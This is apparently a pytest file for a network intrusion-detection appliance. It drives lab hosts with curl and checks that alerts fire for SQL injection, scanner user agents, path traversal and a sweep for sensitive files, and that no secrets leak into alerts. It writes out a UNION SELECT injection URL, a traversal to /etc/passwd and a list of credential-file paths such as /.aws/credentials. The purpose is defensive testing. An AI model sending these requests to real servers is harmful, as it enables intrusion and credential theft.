"""web in the lab: curl from the internet attacker against an office web server (SQL injection
with sqlmap's user agent, path traversal, a sweep for sensitive files), an office host fetching
a program from a bare IP; ordinary browsing raises nothing; no password, cookie or query value
reaches an alert; `watchpost replay` of the uplink capture agrees."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from appliance.detect.detectors import web
from lab.netns import Lab

from .behaviour_lab import Watch, totals
from .content_lab import capture, from_host, sids, start_watch

pytestmark = pytest.mark.root

ATK, PC1, PC2, WEB, EVIL = (
    "198.51.100.23",
    "198.18.0.11",
    "198.18.0.12",
    "203.0.113.10",
    "203.0.113.66",
)
SECRETS = ("S3cret-pa55", "c00kie-9f8e7d", "t0ken-q-value")
SENSITIVE = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/",
    "/server-status",
    "/.aws/credentials",
    "/config.php",
    "/backup.zip",
    "/actuator/env",
    "/.DS_Store",
]


def curl(watch: Watch, host: str, *args: str) -> str:
    res = watch.lab.exec(
        host, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}\\n", "-m", "5", *args,
        check=False, timeout=30,
    )  # fmt: skip
    return res.stdout


@pytest.fixture(scope="module")
def watch(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watch]:
    w = start_watch(lab, tmp_path_factory.mktemp("web"))
    yield w
    w.daemon.stop()


def test_attacks_and_risky_downloads(watch: Watch, serve) -> None:
    serve.http("pc2")
    serve.http("evil")
    mark = watch.mark()
    with capture(watch, "web") as pcap:
        base = f"http://{PC2}"
        sqli = f"{base}/item.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--"
        sqli += f"&password={SECRETS[2]}"
        assert "200" in curl(
            watch, "atk", "-A", "sqlmap/1.8.2#stable (https://sqlmap.org)",
            "-u", f"admin:{SECRETS[0]}", "--cookie", f"session={SECRETS[1]}", sqli,
        )  # fmt: skip
        curl(watch, "atk", "--path-as-is", f"{base}/static/../../../../etc/passwd")
        curl(watch, "atk", *[f"{base}{p}" for p in SENSITIVE])
        assert "200" in curl(watch, "pc1", "-A", "WindowsPowerShell/5.1", f"http://{EVIL}/a.exe")
    want = {web.SQLI.sid, web.SCANNER.sid, web.TRAVERSAL.sid, web.SWEEP.sid, web.PROGRAM.sid}
    got = watch.wait(mark, lambda a: want <= sids(a), "web")
    assert want <= sids(got), watch.daemon.log_tail()
    inbound = from_host(got, ATK)
    assert {a["dest_ip"] for a in inbound} == {PC2}
    assert {a["watchpost"]["direction"] for a in inbound} == {"inbound"}
    sqli_alert = next(a for a in inbound if a["alert"]["signature_id"] == web.SQLI.sid)
    assert sqli_alert["http"]["url"] == "/item.php?id=&password="
    assert sqli_alert["http"]["http_user_agent"].startswith("sqlmap/")
    assert sqli_alert["watchpost"]["details"] == {"check": "sql-injection", "where": "query"}
    sweep = next(a for a in inbound if a["alert"]["signature_id"] == web.SWEEP.sid)
    assert sweep["watchpost"]["details"]["paths"] == 8
    download = next(a for a in got if a["alert"]["signature_id"] == web.PROGRAM.sid)
    assert (download["src_ip"], download["dest_ip"]) == (PC1, EVIL)
    assert download["http"]["url"] == "/a.exe"
    # Nothing secret in any alert of any detector (cleartext reports the Basic auth, too).
    text = json.dumps(watch.settle(mark, None, quiet=3.0))
    for secret in SECRETS:
        assert secret not in text
    assert "union" not in text.lower()  # nor the injected SQL
    got = watch.settle(mark, "web", quiet=3.0)
    assert totals(watch.replay(pcap), "web") == totals(got, "web")


def test_ordinary_browsing_raises_nothing(watch: Watch, serve) -> None:
    serve.http("web")
    mark = watch.mark()
    for path in ("/", "/index.html", "/search?q=union+station+opening+times", "/img/logo.png"):
        assert "200" in curl(watch, "pc1", f"http://www.example.com{path}")
    curl(watch, "pc1", "-A", "Wget/1.21.3", "http://files.example.com/setup.exe")
    got = watch.settle(mark, "web", quiet=3.0, timeout=10.0)
    assert from_host(got, PC1) == []
